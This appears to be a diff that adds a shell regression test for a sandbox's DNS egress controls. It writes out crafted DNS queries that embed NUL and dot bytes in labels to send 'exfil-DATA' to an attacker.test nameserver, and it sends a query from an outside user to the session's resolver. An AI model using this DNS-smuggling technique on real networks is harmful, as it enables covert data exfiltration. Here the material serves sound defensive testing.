@@ -1,0 +1,227 @@
+# Attacks on egress by name (docs/network.md): the proxy and the resolver
+# against a hostile session and against a local user outside it. The
+# test's own servers (tests/helpers/attacksrv.py) run in a network
+# namespace of its own on a /29 of 198.51.100.0/24: SRV is the allowed
+# names' server and resolver, ATT an attacker's server that only a name
+# under attacker.test resolves to. Each case checks what the kernel did (a
+# TCP connect, an answer, a thread count) and the records.
+. "$(dirname "$0")/../lib.sh"
+
+need_root_cgroup2 egress-attacks "network namespaces and the BPF redirect"
+for t in ip setpriv; do
+	if ! command -v $t >/dev/null; then
+		fail "egress-attacks: $t is missing (make deps installs it)"
+		finish
+		exit $?
+	fi
+done
+
+NS=bbx-ea-$$
+HOSTIF=bba$$h
+daemon_scratch egress-attacks
+chmod 755 "$TMPD"
+
+# A /29 no interface or route of this host uses yet (others' tests may hold one).
+BASE=
+for i in $(seq 0 31); do
+	b=$(((($$ + i) % 32) * 8))
+	if [ -z "$(ip -4 route show to match 198.51.100.$((b + 2)) | grep -v '^default')" ]; then
+		BASE=$b
+		break
+	fi
+done
+HOSTIP=198.51.100.$((BASE + 1))
+SRV=198.51.100.$((BASE + 2))
+ATT=198.51.100.$((BASE + 3))
+
+cleanup_extra() {
+	for p in $(ip netns pids "$NS" 2>/dev/null); do kill -9 "$p" 2>/dev/null; done
+	ip netns del "$NS" 2>/dev/null
+	ip link del "$HOSTIF" 2>/dev/null
+}
+
+if [ -z "$BASE" ] || ! ip netns add "$NS" || ! ip link add "$HOSTIF" type veth peer name bba$$n ||
+	! ip link set bba$$n netns "$NS" || ! ip addr add $HOSTIP/29 dev "$HOSTIF" ||
+	! ip link set "$HOSTIF" up || ! ip -n "$NS" addr add $SRV/29 dev bba$$n ||
+	! ip -n "$NS" addr add $ATT/29 dev bba$$n ||
+	! ip -n "$NS" link set bba$$n up || ! ip -n "$NS" link set lo up; then
+	fail "egress-attacks: cannot make the test's network namespace $NS on 198.51.100.$BASE/29"
+	finish
+	exit $?
+fi
+
+DNSLOG="$TMPD/dns.log"
+: >"$DNSLOG"
+ip netns exec "$NS" "$PY" "$ROOT/tests/helpers/attacksrv.py" $SRV $ATT "$DNSLOG" "$TMPD/ready" \
+	allowed.test=$SRV other.test=$SRV inside.wild.test=$SRV outside.wild.test=$SRV \
+	>"$TMPD/srv.log" 2>&1 &
+wait_file "$TMPD/ready" 10
+if [ ! -s "$TMPD/ready" ]; then
+	fail "egress-attacks: the test servers did not start: $(head -c 300 "$TMPD/srv.log")"
+	finish
+	exit $?
+fi
+cd "$WS" || exit 1
+
+# box AUDIT RULES... -- CMD: one embedded session against the test resolver.
+box() {
+	audit=$1
+	shift
+	"$BPFBOX" run --audit "$audit" -w "$WS" --net-resolver $SRV --timeout 60 "$@"
+}
+
+# The sessions' programs: raw DNS questions, HTTP on one connection, many
+# connections (tests/helpers/ holds the servers; these are the tools).
+cat >"$WS/tool.py" <<EOF
+import socket, struct, sys, time
+
+def query(labels, server="$SRV"):
+    q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
+    for l in labels:
+        q += bytes([len(l)]) + l
+    q += b"\\0" + struct.pack(">HH", 1, 1)
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    u.settimeout(5)
+    u.sendto(q, (server, 53))
+    try:
+        a = u.recv(1500)
+    except OSError as e:
+        return "no answer %s" % e
+    addrs = [socket.inet_ntoa(a[i + 12:i + 16]) for i in range(len(q), len(a) - 15)
+             if a[i:i + 2] == b"\\xc0\\x0c" and a[i + 10:i + 12] == b"\\0\\4"]
+    return "rcode %d %s" % (a[3] & 15, " ".join(addrs))
+
+def connect(addr, port=8080):
+    s = socket.socket()
+    s.settimeout(10)
+    s.connect((addr, port))
+    return s
+
+def response(f):
+    line = f.readline()
+    if not line:
+        return "closed"
+    n = 0
+    while True:
+        h = f.readline()
+        if h in (b"\\r\\n", b""):
+            break
+        if h.lower().startswith(b"content-length:"):
+            n = int(h.split(b":")[1])
+    return (line.split(b" ")[1] + b" " + f.read(n).strip().splitlines()[-1]).decode()
+
+def get(addr, host):
+    try:
+        s = connect(addr)
+        s.sendall(b"GET / HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % host.encode())
+        return response(s.makefile("rb"))
+    except OSError as e:
+        return "error %d" % e.errno
+
+cmd = sys.argv[1]
+if cmd == "nul":
+    print("control:", query([b"allowed", b"test"]))
+    print("control get:", get("$SRV", "allowed.test"))
+    print("nul:", query([b"allowed", b"test\\0", b"exfil-DATA", b"attacker", b"test"]))
+    print("dot:", query([b"allowed", b"test.exfil2", b"attacker", b"test"]))
+    print("nul get:", get("$ATT", "allowed.test"))
+elif cmd == "hold":
+    print("control:", query([b"allowed", b"test"]), flush=True)
+    open("held", "w").write("held\n")
+    for i in range(600):
+        try:
+            open("go")
+            break
+        except OSError:
+            time.sleep(0.05)
+    print("inside:", query([b"inside", b"wild", b"test"]))
+EOF
+
+# The UDP port on 127.0.0.1 of process $1 (the session's resolver).
+resolver_port() {
+	"$PY" - "$1" <<'PY'
+import os, sys
+pid = sys.argv[1]
+inodes = set()
+for fd in os.listdir("/proc/%s/fd" % pid):
+    try:
+        l = os.readlink("/proc/%s/fd/%s" % (pid, fd))
+    except OSError:
+        continue
+    if l.startswith("socket:["):
+        inodes.add(l[8:-1])
+for line in open("/proc/net/udp").readlines()[1:]:
+    f = line.split()
+    if f[1].startswith("0100007F:") and f[9] in inodes:
+        print(int(f[1].split(":")[1], 16))
+PY
+}
+
+# 1. A NUL byte (or a '.') inside a label: the name judged must be the
+# name sent upstream. Before, "allowed\0test\0.exfil-DATA.attacker.test"
+# was judged as allowed.test, sent upstream whole (the attacker's
+# nameserver got the data), its answer cached as allowed.test's.
+N1="$TMPD/nul.jsonl"
+box "$N1" --net-allow allowed.test:8080 -- "$PY" tool.py nul >"$TMPD/out" 2>"$TMPD/err"
+expect_grep "^control: rcode 0 $SRV\$" "$TMPD/out" "egress-attacks: control: allowed.test resolves in the session"
+expect_grep '^control get: 200 hello from allowed.test' "$TMPD/out" \
+	"egress-attacks: control: allowed.test is reached over HTTP"
+expect_grep '^nul: rcode (1|5) *$' "$TMPD/out" "egress-attacks: a NUL byte inside a label is refused, no address"
+expect_grep '^dot: rcode (1|5) *$' "$TMPD/out" "egress-attacks: a '.' inside a label is refused, no address"
+expect_grep '^nul get: error 1$' "$TMPD/out" \
+	"egress-attacks: the attacker's address stays unreachable (connect EPERM)"
+if grep -q "b'allowed', b'test'\]" "$DNSLOG" && ! grep -q 'exfil' "$DNSLOG"; then
+	ok "egress-attacks: the labels never reached the upstream resolver"
+else
+	fail "egress-attacks: upstream got: $(oneline "$DNSLOG")"
+fi
+check_events "$N1" "any(e['type'] == 'net.deny' and e['protocol'] == 'dns' and e['name'] == 'allowed.test\\\\000.exfil-DATA.attacker.test' and e['reason'].startswith('not a host name') for e in net) and any(e['type'] == 'net.deny' and e['name'] == 'allowed.test\\\\.exfil2.attacker.test' for e in net) and not any(e['type'] == 'net.allow' and e.get('address') == '$ATT' for e in net)" \
+	"egress-attacks: net.deny records show the wire name with its NUL and dot escaped"
+
+# 2. A query from outside the session: any local user can send UDP to the
+# resolver's port. Before, it was answered (an open resolver for the
+# session's names) and its answers entered the session's name cache.
+O="$TMPD/outside.jsonl"
+rm -f "$WS/held" "$WS/go"
+"$BPFBOX" run --audit "$O" -w "$WS" --net-resolver $SRV --timeout 60 \
+	--net-allow allowed.test:8080 --net-allow '*.wild.test:8080' -- "$PY" tool.py hold \
+	>"$TMPD/hold.out" 2>"$TMPD/hold.err" &
+RUNPID=$!
+wait_file "$WS/held" 20
+PORT=$(resolver_port $RUNPID | head -1)
+if [ -z "$PORT" ]; then
+	fail "egress-attacks: no resolver socket in bpfbox run ($RUNPID): $(oneline "$TMPD/hold.err")"
+else
+	setpriv --reuid 65534 --regid 65534 --clear-groups "$PY" - $PORT >"$TMPD/outsider.out" 2>&1 <<'PY'
+import socket, struct, sys
+q = struct.pack(">HHHHHH", 0x4343, 0x0100, 1, 0, 0, 0)
+for l in (b"outside", b"wild", b"test"):
+    q += bytes([len(l)]) + l
+q += b"\0" + struct.pack(">HH", 1, 1)
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+u.settimeout(3)
+u.sendto(q, ("127.0.0.1", int(sys.argv[1])))
+try:
+    a = u.recv(1500)
+    print("answer rcode %d" % (a[3] & 15))
+except OSError:
+    print("no answer")
+PY
+fi
+touch "$WS/go"
+wait $RUNPID
+expect_grep "^control: rcode 0 $SRV\$" "$TMPD/hold.out" "egress-attacks: control: the session's own query is answered"
+# The positive control after the outsider's query: the resolver still serves the session.
+expect_grep "^inside: rcode 0 $SRV\$" "$TMPD/hold.out" \
+	"egress-attacks: control: a later query of the session is answered"
+expect_grep '^no answer$' "$TMPD/outsider.out" \
+	"egress-attacks: a query from a local user outside the session gets no answer"
+if grep -q "b'inside', b'wild', b'test'" "$DNSLOG" && ! grep -q "b'outside'" "$DNSLOG"; then
+	ok "egress-attacks: the outsider's query never reached the upstream resolver"
+else
+	fail "egress-attacks: outsider: upstream got: $(oneline "$DNSLOG")"
+fi
+check_events "$O" "any(e['name'] == 'inside.wild.test' for e in net) and not any(e['name'] == 'outside.wild.test' for e in net)" \
+	"egress-attacks: the outsider's query is in no record of the session"
+
+finish
